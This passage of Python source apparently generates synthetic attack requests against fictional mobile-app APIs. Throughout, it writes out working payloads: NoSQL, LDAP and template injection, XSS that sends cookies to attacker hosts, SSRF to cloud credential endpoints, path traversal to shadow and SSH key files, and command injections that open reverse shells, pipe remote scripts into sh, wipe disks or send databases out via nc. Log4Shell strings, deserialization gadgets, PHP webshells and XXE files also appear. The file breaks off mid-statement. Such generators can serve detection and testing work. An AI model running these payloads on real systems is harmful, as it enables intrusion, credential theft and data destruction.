# ---------------------------------------------------------------------------

@attack_gen
def a_nosql(r):
    out = []
    hosts = [a["host"] for a in APPS.values()]
    bodies = [{"email": {"$ne": None}, "password": {"$ne": None}}, {"email": "admin@snackr.io", "password": {"$gt": ""}},
              {"username": {"$regex": "^adm"}, "password": {"$ne": "wrongpass"}}, {"email": "a@b.c", "$where": "sleep(5000) || true"},
              {"email": {"$in": ["admin@ridely.app", "root@ridely.app"]}, "password": {"$nin": [""]}},
              {"phone": "+4915112345678", "otp": {"$gt": ""}, "request_id": "x"},
              {"refreshToken": {"$exists": True}, "deviceId": "x"},
              {"email": "x", "password": {"$where": "function(){ return this.password.match(/^a/) != null; }"}}]
    for i, b in enumerate(bodies):
        path = ["/v1/auth/login", "/v1/auth/login", "/v1/auth/login", "/v1/auth/login", "/v1/auth/login", "/v2/auth/otp/verify", "/v1/auth/refresh", "/v1/auth/login"][i]
        out.append(A("nosql", method="POST", host=hosts[i % len(hosts)], path=path, body=b, auth=False))
    out.append(A("nosql", method="POST", host=APPS["shop"]["host"], path="/v1/auth/login", body="email[$ne]=x&password[$ne]=x",
                 ctype="application/x-www-form-urlencoded", auth=False, client="rn-android"))
    out.append(A("nosql", method="GET", host=APPS["chat"]["host"], path="/v1/users", params=[("username[$regex]", ".*"), ("fields", "id,email,phone")]))
    out.append(A("nosql", method="GET", host=APPS["food"]["host"], path="/v1/orders", params={"filter": js({"userId": {"$ne": None}, "status": "delivered"})}))
    out.append(A("nosql", method="POST", host=APPS["shop"]["host"], path="/v1/reports/aggregate",
                 body={"pipeline": [{"$match": {}}, {"$lookup": {"from": "users", "localField": "userId", "foreignField": "_id", "as": "u"}}, {"$project": {"u.passwordHash": 1}}]}))
    out.append(A("nosql", method="POST", host=APPS["ride"]["host"], path="/v2/rides/search",
                 body={"filter": {"$or": [{"riderId": "me"}, {"_id": {"$ne": None}}]}, "limit": 500}))
    out.append(A("nosql", method="POST", host=APPS["fit"]["host"], path="/v1/workouts/query",
                 body={"where": {"$expr": {"$function": {"body": "function() { sleep(3000); return true; }", "args": [], "lang": "js"}}}}))
    out.append(A("nosql", method="POST", host=APPS["shop"]["host"], path="/graphql",
                 body={"operationName": "Login", "query": "mutation Login($email: JSON!, $password: JSON!) { login(email: $email, password: $password) { token } }",
                       "variables": {"email": {"$ne": ""}, "password": {"$ne": ""}}}, auth=False))
    out.append(A("nosql", method="GET", host=APPS["chat"]["host"], path="/v1/users/search", params=[("email[$gt]", ""), ("role", "admin")]))
    return out


@attack_gen
def a_ldap(r):
    h = "m.staffdirectory.coinpurse.eu"
    out = []
    for u in ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectClass=*)"]:
        out.append(A("ldap", method="POST", host=h, path="/api/v1/auth/ldap", body={"username": u, "password": "irrelevant"}, auth=False, app=APPS["bank"]))
    for q in ["*)(mail=*@coinpurse.eu", "jsmith)(|(memberOf=cn=admins,ou=groups,dc=coinpurse,dc=eu)", "x*)(|(userPassword=*)(cn=*"]:
        out.append(A("ldap", method="GET", host=h, path="/api/v1/people", params={"q": q, "limit": 25}, app=APPS["bank"]))
    return out


# ---------------------------------------------------------------------------
# attacks: stored XSS (bios, chat, reviews, notes rendered in web consoles)
# ---------------------------------------------------------------------------

XSS = ["<script>fetch('https://x.attacker.io/c?'+document.cookie)</script>", "<img src=x onerror=alert(document.domain)>",
       "<svg/onload=confirm(1)>", "\"><iframe srcdoc=\"<script>parent.alert(1)</script>\">", "<a href=\"javascript:alert(1)\">tap me</a>",
       "<details open ontoggle=fetch('//evil.tld/'+localStorage.token)>", "<body onpageshow=alert(1)>",
       "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<x onmouseover=alert`1`>hover me",
       "<input autofocus onfocus=alert(1)>", "<video><source onerror=\"eval(atob('YWxlcnQoMSk='))\">",
       "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>", "<marquee onstart=alert(1)>hi</marquee>",
       "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
       "Love this app 😍<img src=1 onerror=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
       "<form action=javascript:alert(1)><button>Claim reward</button></form>", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
       "<iframe src=\"jaVasCript:alert(1)\"></iframe>", "</textarea><script>new Image().src='//evil.tld/k?'+document.cookie</script>",
       "{{constructor.constructor('alert(1)')()}}", "<style>@import'//evil.tld/x.css';</style><b>cool</b>",
       "[tap here](javascript:alert(document.cookie))", "<div style=\"background:url(javascript:alert(1))\">x</div>",
       "<img src=x:x onerror=\"window['al'+'ert'](1)\">", "<base href=\"//evil.tld/\"><script src=/app.js></script>",
       "'\"><svg onload=alert(1)//", "<embed src=\"javascript:alert(1)\">", "<audio src=x onerror=top[`al`+`ert`](1)>"]


@attack_gen
def a_xss_stored(r):
    out = []
    for i, p in enumerate(XSS):
        k = i % 8
        app = pick_app(r)
        if k == 0:
            out.append(A("xss", method="PATCH", host=app["host"], path="/v1/me/profile", body={"displayName": r.choice(FIRST), "bio": p, "locale": "en-US"}))
        elif k == 1:
            c = "cnv_" + hexid(r, 12)
            out.append(A("xss", method="POST", host=APPS["chat"]["host"], path="/v3/conversations/%s/messages" % c,
                         body={"clientMessageId": uid(r), "conversationId": c, "type": "text", "text": p, "sentAt": ts_iso(r)}))
        elif k == 2:
            out.append(A("xss", method="PATCH", host=app["host"].replace("api.", "admin-api.", 1), path="/v1/app-store/reviews/%d/response" % r.randint(10 ** 9, 10 ** 10),
                         body={"data": {"type": "customerReviewResponses", "attributes": {"responseBody": "Thanks! " + p}}}, client="browser"))
        elif k == 3:
            out.append(A("xss", method="PATCH", host=app["host"], path="/v1/me/profile", body={"displayName": p, "pronouns": "they/them"}))
        elif k == 4:
            out.append(A("xss", method="POST", host=APPS["food"]["host"], path="/v1/orders", body={"cartId": "cart_" + hexid(r, 16),
                                                                                                  "address": {"line1": r.choice(ADDRESSES), "instructions": p}, "tip": 200}))
        elif k == 5:
            out.append(A("xss", method="POST", host=APPS["ride"]["host"], path="/v2/rides/ride_%s/rating" % hexid(r, 12), body={"stars": 1, "comment": p}))
        elif k == 6:
            out.append(A("xss", method="POST", host=app["host"], path="/v1/support/feedback", body={"message": p, "category": "bug", "rating": 1,
                                                                                                 "diagnostics": {"appVersion": app["ver"], "logs": LOGCAT[0]}}))
        else:
            out.append(A("xss", method="POST", host=app["host"], path="/v1/devices", body={"token": fcm_token(r), "platform": "android", "deviceName": "Anna's Pixel " + p}))
    # reflected on the web fallback page of a deep link
    out.append(A("xss", method="GET", host="links.ridely.app", path="/resolve", params={"link": "https://ridely.app/r/x\"><script>alert(1)</script>", "utm_source": "sms"},
                 auth=False, client="browser"))
    out.append(A("xss", method="GET", host="go.snackr.io", path="/promo", params={"deep_link_value": "<svg onload=alert(document.cookie)>"}, auth=False, client="ios-cf"))
    return out


# ---------------------------------------------------------------------------
# attacks: SSRF (avatar, link preview, webhooks, jku/x5u), LFI, RFI
# ---------------------------------------------------------------------------

SSRF = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://[fd00:ec2::254]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://localhost:8080/actuator/env", "http://127.0.0.1:6379/",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "file:///etc/passwd", "http://0x7f000001:8500/v1/agent/self",
        "http://2130706433/admin", "http://0177.0.0.1:2375/containers/json", "http://[::ffff:127.0.0.1]:9200/_cat/indices",
        "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "dict://localhost:11211/stats",
        "http://169.254.169.254.nip.io/latest/user-data", "http://internal-admin.svc.cluster.local/api/users", "http://192.168.1.1/cgi-bin/luci",
        "https://cdn.ridely.app@169.254.169.254/latest/meta-data/", "http://10.0.0.5:9200/_search?q=*", "http://[::1]:2379/v2/keys/?recursive=true",
        "http://169.254.170.2/v2/credentials/"]


@attack_gen
def a_ssrf(r):
    out = []
    for i, u in enumerate(SSRF):
        k = i % 6
        app = pick_app(r)
        if k == 0:
            out.append(A("ssrf", method="PUT", host=app["host"], path="/v1/me/avatar", body={"avatarUrl": u, "source": "url"}))
        elif k == 1:
            out.append(A("ssrf", method="POST", host=APPS["chat"]["host"], path="/v3/link-preview", body={"url": u, "conversationId": "cnv_" + hexid(r, 12)}))
        elif k == 2:
            out.append(A("ssrf", method="POST", host=app["host"], path="/v1/integrations/webhooks", body={"url": u, "events": ["order.created"], "secret": alnum(r, 32)},
                         client="browser"))
        elif k == 3:
            out.append(A("ssrf", method="POST", host=APPS["cam"]["host"], path="/v2/media/import", body={"sourceUrl": u, "albumId": "alb_" + hexid(r, 10)}))
        elif k == 4:
            out.append(A("ssrf", method="GET", host=app["host"], path="/v1/images/proxy", params={"url": u, "w": 360}))
        else:
            out.append(A("ssrf", method="POST", host=app["host"].replace("api.", "admin-api.", 1), path="/v1/push/campaigns",
                         body={"title": "Spring sale", "body": "20% off today", "imageUrl": u, "segment": "all"}, client="browser"))
    # JWT header URLs fetched by the verifier
    for hdr in [{"alg": "RS256", "typ": "JWT", "jku": "http://169.254.169.254/latest/meta-data/jwks.json"},
                {"alg": "RS256", "typ": "JWT", "x5u": "http://127.0.0.1:8080/internal/cert.pem"}]:
        tok = jwt(r, APPS["ride"], header=hdr, claims={"role": "admin"})
        out.append(A("ssrf", method="GET", host=APPS["ride"]["host"], path="/v1/me", auth="Bearer " + tok))
    return out


LFI = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow", "....//....//....//etc/hosts", "..\\..\\..\\..\\windows\\win.ini",
       "/proc/self/environ", "../../../WEB-INF/web.xml", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "../../../../etc/passwd%00.jpg",
       "/var/run/secrets/kubernetes.io/serviceaccount/token", "../../../../root/.aws/credentials", "../../../home/app/.ssh/id_rsa",
       "..%252f..%252f..%252fetc%252fpasswd", "../../config/secrets.yml", "/etc/passwd", "....\\\\....\\\\boot.ini",
       "file:///data/data/com.ridely.passenger/shared_prefs/auth.xml", "../../../../proc/self/cmdline"]


@attack_gen
def a_lfi(r):
    out = []
    for i, p in enumerate(LFI):
        k = i % 5
        app = pick_app(r)
        if k == 0:
            out.append(A("lfi", method="GET", host=APPS["chat"]["host"], path="/v3/attachments/download", params={"id": p, "disposition": "inline"}))
        elif k == 1:
            out.append(A("lfi", method="GET", host=app["host"], path="/v1/files", params={"name": p, "type": "receipt"}))
        elif k == 2:
            # traversal in the path itself, as sent (already encoded where the payload is)
            out.append(A("lfi", method="GET", host="cdn." + app["host"].split(".", 1)[1], path="/i18n/" + (p if "%" in p else enc(p, "/%")),
                         auth=False))
        elif k == 3:
            out.append(A("lfi", method="GET", host=app["host"], path="/v1/support/logs", params={"file": p}, client="browser"))
        else:
            out.append(A("lfi", method="POST", host=APPS["cam"]["host"], path="/v2/media/export", body={"mediaId": "med_" + hexid(r, 12), "path": p, "format": "zip"}))
    # upload with a traversal filename
    body, ct = multipart([("metadata", None, "application/json", js({"albumId": "alb_1"})), ("file", "../../../../var/www/html/avatar.jpg", "image/jpeg", "\xff\xd8 not really")],
                         boundary_for(r, "android"))
    out.append(A("lfi", method="POST", host=APPS["cam"]["host"], path="/v2/media/upload", body=body, ctype=ct, client="android"))
    # kid path traversal
    for kid in ["../../../../../../dev/null", "/proc/sys/kernel/randomize_va_space", "../../../../../etc/passwd"]:
        tok = jwt(r, APPS["chat"], alg="HS256", header={"alg": "HS256", "typ": "JWT", "kid": kid}, claims={"role": "admin"})
        out.append(A("lfi", method="GET", host=APPS["chat"]["host"], path="/v1/me", auth="Bearer " + tok))
    # in-app locale files
    out.append(A("lfi", method="GET", host=APPS["food"]["host"], path="/v1/strings", params={"lang": "../../../../etc/passwd"}))
    return out


@attack_gen
def a_rfi(r):
    out = []
    rfi = ["http://evil.tld/shell.txt?", "https://attacker.tld/x.php", "ftp://203.0.113.7/c.txt%00", "\\\\attacker.tld\\share\\x.php",
           "http://203.0.113.7/r57.txt??", "https://pastebin.com/raw/Xy12AbCd?", "http://evil.tld/inc.php?cmd=id&"]
    names = [("template", "/v1/notifications/preview"), ("lang_file", "/v1/strings"), ("config", "/v1/config"), ("include", "/v1/help/page"),
             ("module", "/legacy/index.php"), ("page", "/legacy/content.php"), ("theme_url", "/v1/webview/theme")]
    for (param, path), p in zip(names, rfi):
        app = pick_app(r)
        out.append(A("rfi", method="GET", host=app["host"], path=path, params={param: p, "platform": "ios"}))
    out.append(A("rfi", method="POST", host=APPS["shop"]["host"], path="/legacy/plugins/load.php", body="plugin_url=" + enc("http://evil.tld/backdoor.txt?") + "&activate=1",
                 ctype="application/x-www-form-urlencoded", client="browser"))
    return out


# ---------------------------------------------------------------------------
# attacks: command injection (image processing, diagnostics), PHP
# ---------------------------------------------------------------------------

@attack_gen
def a_rce_image(r):
    out = []
    cam = APPS["cam"]
    params = [[("w", "100"), ("h", "100"), ("format", "png;id")], [("w", "360"), ("filter", "blur|curl http://203.0.113.7/x.sh|sh")],
              [("w", "720"), ("quality", "80`whoami`")], [("crop", "$(cat /etc/passwd)"), ("w", "64")],
              [("w", "1080"), ("format", "jpg\nnc -e /bin/sh 203.0.113.7 4444")], [("resize", "50%;wget${IFS}http://203.0.113.7/m${IFS}-O${IFS}/tmp/m")],
              [("w", "200"), ("watermark", "logo.png && rm -rf / --no-preserve-root")], [("format", "webp|powershell -nop -c \"iex(iwr http://203.0.113.7/a.ps1)\"")],
              [("density", "300 -write /var/www/html/x.php"), ("w", "100")], [("w", "320"), ("background", "white'; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1; '")]]
    for ps in params:
        out.append(A("rce", method="GET", host=cam["host"], path="/v2/media/med_%s/render" % hexid(r, 12), params=ps))
    bodies = [{"mediaId": "med_" + hexid(r, 12), "ops": [{"op": "resize", "args": "1024x768; curl -s http://203.0.113.7/p | bash"}]},
              {"mediaId": "med_" + hexid(r, 12), "ops": [{"op": "convert", "to": "gif", "args": "-delay 10 $(id>/tmp/pwn)"}]},
              {"videoId": "vid_" + hexid(r, 10), "transcode": {"codec": "libx264", "extraArgs": "-i /etc/passwd -f data http://203.0.113.7/"}, "thumbnailAt": "00:00:01;id"},
              {"mediaId": "med_" + hexid(r, 12), "exifStrip": True, "outputName": "photo.jpg|nslookup $(whoami).oob.attacker.tld"}]
    for b in bodies:
        out.append(A("rce", method="POST", host=cam["host"], path="/v2/media/process", body=b))
    # ImageTragick MVG disguised as an image
    mvg = "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|curl \"http://203.0.113.7/$(id))'\npop graphic-context\n"
    b, ct = multipart([("file", "avatar.jpg", "image/jpeg", mvg)], boundary_for(r, "ios"))
    out.append(A("rce", method="POST", host=cam["host"], path="/v2/media/upload", body=b, ctype=ct, client="ios"))
    # filename with shell metacharacters next to real JPEG bytes (exact bytes)
    b, ct = multipart([("metadata", None, "application/json", js({"albumId": "alb_" + hexid(r, 8)})),
                       ("file", "IMG_0001.jpg;curl http:\\/\\/203.0.113.7\\/s|sh;.jpg", "image/jpeg", fake_jpeg(r, size=300))], boundary_for(r, "android"))
    out.append(A("rce", method="POST", host=cam["host"], path="/v2/media/upload", body=b, ctype=ct, client="android"))
    return out


@attack_gen
def a_rce_misc(r):
    out = []
    out.append(A("rce", method="POST", host=APPS["ride"]["host"], path="/v1/support/network-diagnostics", body={"host": "api.ridely.app;cat /etc/shadow", "count": 3}))
    out.append(A("rce", method="POST", host=APPS["chat"]["host"], path="/v1/support/network-diagnostics", body={"host": "8.8.8.8 | id", "mode": "traceroute"}))
    out.append(A("rce", method="PATCH", host=APPS["fit"]["host"], path="/v1/me/settings", body={"timezone": "Europe/Berlin && curl http://203.0.113.7/$(hostname)", "units": "metric"}))
    out.append(A("rce", method="POST", host=APPS["shop"]["host"], path="/v1/devices", body={"token": fcm_token(r), "platform": "android", "deviceName": "Pixel 8; nc 203.0.113.7 4444 -e /bin/bash"}))
    out.append(A("rce", method="GET", host=APPS["food"]["host"], path="/v1/orders/export", params={"format": "csv", "filename": "orders.csv| type C:\\Windows\\win.ini"}))
    out.append(A("rce", method="GET", host=APPS["ride"]["host"], path="/v1/config", params={"platform": "android"},
                 extra=[("User-Agent", "() { :; }; /bin/bash -c 'curl http://203.0.113.7/sh | bash'")], client="dalvik"))
    out.append(A("rce", method="POST", host=APPS["bank"]["host"], path="/v1/reports/formula", body={"expression": "__import__('os').popen('id').read()", "sheet": "Q1"}))
    out.append(A("rce", method="POST", host=APPS["shop"]["host"], path="/v1/admin/scripts/preview",
                 body={"script": "require('child_process').execSync('cat /etc/passwd').toString()"}, client="browser"))
    out.append(A("rce", method="GET", host=APPS["cam"]["host"], path="/v2/albums/alb_1/zip", params={"name": "holiday.zip`sleep 10`"}))
    out.append(A("rce", method="POST", host=APPS["chat"]["host"], path="/v1/support/feedback", body={"message": "logs attached", "diagnostics": {"logcatCmd": "logcat -d; /system/bin/sh -c 'cat /data/data/*/databases/*.db | nc 203.0.113.7 9001'"}}))
    return out


@attack_gen
def a_php(r):
    out = []
    app = APPS["shop"]
    for f in ["php://filter/convert.base64-encode/resource=index.php", "phar://uploads/avatars/7731.jpg/x.txt", "expect://id",
              "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "zip://uploads/avatar.jpg%23shell.php"]:
        out.append(A("php", method="GET", host=app["host"], path="/legacy/download.php", params={"file": f}, client="rn-android"))
    b, ct = multipart([("avatar", "avatar.php.jpg", "image/jpeg", "GIF89a<?php system($_GET['c']); ?>")], boundary_for(r, "flutter"))
    out.append(A("php", method="POST", host=app["host"], path="/legacy/avatar_upload.php", body=b, ctype=ct, client="flutter"))
    out.append(A("php", method="PATCH", host=app["host"], path="/v1/me/profile", body={"bio": "<?= `$_GET[0]` ?>", "displayName": "dev"}))
    out.append(A("php", method="POST", host=app["host"], path="/legacy/prefs.php",
                 body="prefs=" + enc('O:8:"Settings":2:{s:4:"file";s:21:"/var/www/html/sh.php";s:4:"data";s:30:"<?php eval($_POST[\'x\']); ?>";}'),
                 ctype="application/x-www-form-urlencoded", client="dalvik"))
    out.append(A("php", method="POST", host=app["host"], path="/index.php", raw_query="-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp%3a//input",
                 body="<?php echo shell_exec('id'); ?>", ctype="application/x-www-form-urlencoded", auth=False, client="bare",
                 extra=[("User-Agent", "Mozilla/5.0")]))
    return out


# ---------------------------------------------------------------------------
# attacks: Java (Log4Shell in device headers, deserialization), SSTI
# ---------------------------------------------------------------------------

def java_serialized(classes):
    """A Java serialization stream head (TC_OBJECT/TC_CLASSDESC chain) naming the given gadget classes."""
    out = b"\xac\xed\x00\x05"
    for c in classes:
        cb = c.encode()
        out += b"\x73\x72" + struct.pack(">H", len(cb)) + cb + bytes.fromhex("0000000000000001") + b"\x02\x00\x01\x4c\x00\x04iTyp\x74\x00\x12Ljava/lang/Object;\x78\x70"
    return out + b"\x74\x00\x02id\x70"


@attack_gen
def a_java(r):
    out = []
    l4j = ["${jndi:ldap://203.0.113.7:1389/a}", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://oob.attacker.tld/x}",
           "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.7:1099/Obj}", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.tld}",
           "Pixel 8 ${jndi:ldaps://attacker.tld/o}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.7/e}",
           "${jndi:ldap://127.0.0.1#attacker.tld:1389/z}", "${${upper:j}ndi:iiop://203.0.113.7/q}"]
    hdrs = ["X-Device-Model", "User-Agent", "X-App-Version", "X-Device-Id", "X-Device-Model", "Accept-Language", "X-Forwarded-For", "X-Platform"]
    for p, hname in zip(l4j, hdrs):
        app = pick_app(r)
        out.append(A("java", method="GET", host=app["host"], path=r.choice(["/v1/config", "/v1/feed", "/v2/rides"]), params={"platform": "android"},
                     extra=[(hname, p)], client=r.choice(["android", "ios"])))
    out.append(A("java", method="POST", host=APPS["ride"]["host"], path="/v1/devices", body={"token": fcm_token(r), "platform": "android",
                                                                                         "deviceName": "${jndi:ldap://203.0.113.7/dev}", "model": "SM-S918B"}))
    blob = b64(java_serialized(["org.apache.commons.collections.functors.InvokerTransformer", "java.util.PriorityQueue"]))
    out.append(A("java", method="POST", host=APPS["bank"]["host"], path="/v1/session/restore", body={"state": blob, "deviceId": hexid(r, 16)}, client="android"))
    out.append(A("java", method="POST", host=APPS["bank"]["host"], path="/remoting/SyncService",
                 body=java_serialized(["org.springframework.beans.factory.ObjectFactory", "sun.reflect.annotation.AnnotationInvocationHandler"]),
                 ctype="application/x-java-serialized-object", client="dalvik"))
    out.append(A("java", method="POST", host=APPS["shop"]["host"], path="/v1/preferences/import", body={"prefs": blob, "format": "android-bundle"}, client="android"))
    out.append(A("java", method="POST", host=APPS["shop"]["host"], path="/v1/config/import",
                 body="remote:\n  loader: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://203.0.113.7/yaml.jar\"]]]]\n",
                 ctype="application/x-yaml", client="browser"))
    out.append(A("java", method="POST", host=APPS["ride"]["host"], path="/v1/me/settings",
                 body={"@class": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://203.0.113.7:1389/Exploit", "autoCommit": True}))
    out.append(A("java", method="POST", host=APPS["food"]["host"], path="/v1/carts/current",
                 body={"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.7:1099/Exploit", "autoCommit": True}))
    out.append(A("java", method="POST", host=APPS["shop"]["host"], path="/v1/me/profile",
                 body="class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
                 ctype="application/x-www-form-urlencoded", client="rn-android"))
    out.append(A("java", method="POST", host=APPS["shop"]["host"], path="/legacy/upload.action", body="x",
                 ctype="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}",
                 client="bare", auth=False, extra=[("User-Agent", "okhttp/4.12.0")]))
    out.append(A("java", method="GET", host=APPS["shop"]["host"], path="/v1/products",
                 params={"sort": "T(java.lang.Runtime).getRuntime().exec('id')", "page": 1}))
    return out


@attack_gen
def a_ssti(r):
    out = []
    ssti = ["{{ ''.__class__.__mro__[1].__subclasses__() }}", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}", "<%= `id` %>",
            "<%= File.open('/etc/passwd').read %>", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
            "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
            "{{self.__init__.__globals__.__builtins__.exec('import os; os.system(\"id\")')}}", "{php}echo `id`;{/php}", "{{['id']|filter('system')}}",
            "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}", "${self.module.cache.util.os.system('id')}",
            "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}{{#with string.split as |codelist|}}{{this.push \"return require('child_process').execSync('id');\"}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}"]
    for i, p in enumerate(ssti):
        app = pick_app(r)
        k = i % 4
        if k == 0:
            out.append(A("ssti", method="PUT", host=app["host"].replace("api.", "admin-api.", 1), path="/v1/notification-templates/order_shipped",
                         body={"key": "order_shipped", "locale": "en", "title": "Good news!", "body": p, "channels": ["push"]}, client="browser"))
        elif k == 1:
            out.append(A("ssti", method="POST", host=app["host"].replace("api.", "admin-api.", 1), path="/v1/notification-templates/preview",
                         body={"template": p, "vars": {"first_name": "Anna", "order_id": 1234}}, client="browser"))
        elif k == 2:
            out.append(A("ssti", method="PATCH", host=app["host"], path="/v1/me/profile", body={"displayName": p, "bio": "hi"}))
        else:
            out.append(A("ssti", method="POST", host=app["host"], path="/v1/referrals/invite", body={"phone": "+4915112345678", "message": p}))
    return out


# ---------------------------------------------------------------------------
# attacks: XXE (SVG, plist, GPX, KML, strings.xml uploads)
# ---------------------------------------------------------------------------

@attack_gen
def a_xxe(r):
    out = []
    svg = ("<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n"
           "<svg width=\"128\" height=\"128\" xmlns=\"http://www.w3.org/2000/svg\"><text x=\"0\" y=\"16\">&xxe;</text></svg>")
    b, ct = multipart([("file", "avatar.svg", "image/svg+xml", svg)], boundary_for(r, "rn-ios"))
    out.append(A("xxe", method="POST", host=APPS["chat"]["host"], path="/v1/me/avatar", body=b, ctype=ct, client="rn-ios"))
    svg2 = ("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY % dtd SYSTEM \"http://203.0.113.7/evil.dtd\"> %dtd;]>"
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"5\"/></svg>")
    out.append(A("xxe", method="PUT", host=APPS["cam"]["host"], path="/v2/stickers/st_%s" % hexid(r, 8), body=svg2, ctype="image/svg+xml"))
    plist = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist [<!ENTITY rcpt SYSTEM \"file:///var/run/secrets/kubernetes.io/serviceaccount/token\">]>\n"
             "<plist version=\"1.0\"><dict><key>receipt-data</key><string>&rcpt;</string></dict></plist>")
    out.append(A("xxe", method="POST", host=APPS["fit"]["host"], path="/v1/purchases/apple/verify", body=plist, ctype="application/x-plist", client="ios"))
    gpx = ("<?xml version=\"1.0\"?>\n<!DOCTYPE gpx [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n"
           "<gpx version=\"1.1\" creator=\"PulseFit\"><trk><name>&meta;</name><trkseg><trkpt lat=\"52.52\" lon=\"13.40\"><ele>34</ele></trkpt></trkseg></trk></gpx>")
    b, ct = multipart([("file", "morning-run.gpx", "application/gpx+xml", gpx)], boundary_for(r, "flutter"))
    out.append(A("xxe", method="POST", host=APPS["fit"]["host"], path="/v1/workouts/import", body=b, ctype=ct, client="flutter"))
    kml = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE kml [<!ENTITY h SYSTEM \"file:///etc/hostname\">]>"
           "<kml xmlns=\"http://www.opengis.net/kml/2.2\"><Placemark><name>&h;</name><Point><coordinates>13.4,52.5</coordinates></Point></Placemark></kml>")
    out.append(A("xxe", method="POST", host=APPS["ride"]["host"], path="/v1/places/import", body=kml, ctype="application/vnd.google-earth.kml+xml"))
    strings = ("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE resources [<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\">]>\n"
               "<resources><string name=\"app_name\">&x;</string></resources>")
    out.append(A("xxe", method="POST", host="translations.snackr.io", path="/api/v2/projects/snackr-android/files", body=strings, ctype="application/xml", client="browser"))
    lol = ("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
           "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\"><!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">]>"
           "<feedback><msg>&lol4;</msg></feedback>")
    out.append(A("xxe", method="POST", host=APPS["chat"]["host"], path="/v1/support/feedback", body=lol, ctype="text/xml"))
    xinc = ("<order xmlns:xi=\"http://www.w3.org/2001/XInclude\"><note><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></note></order>")
    out.append(A("xxe", method="POST", host=APPS["food"]["host"], path="/v1/orders/xml", body=xinc, ctype="application/xml", client="dalvik"))
    xliff = ("<?xml version=\"1.0\"?><!DOCTYPE xliff SYSTEM \"http://203.0.113.7/xliff.dtd\"><xliff version=\"1.2\"><file source-language=\"en\" target-language=\"de\">"
             "<body><trans-unit id=\"checkout\"><source>Checkout</source><target>Kasse</target></trans-unit></body></file></xliff>")
    out.append(A("xxe", method="POST", host="translations.snackr.io", path="/api/v2/projects/snackr-ios/import", body=xliff, ctype="application/x-xliff+xml", client="browser"))
    soap = ("<?xml version=\"1.0\"?><!DOCTYPE soap:Envelope [<!ENTITY ent SYSTEM \"file:///c:/windows/win.ini\">]>"
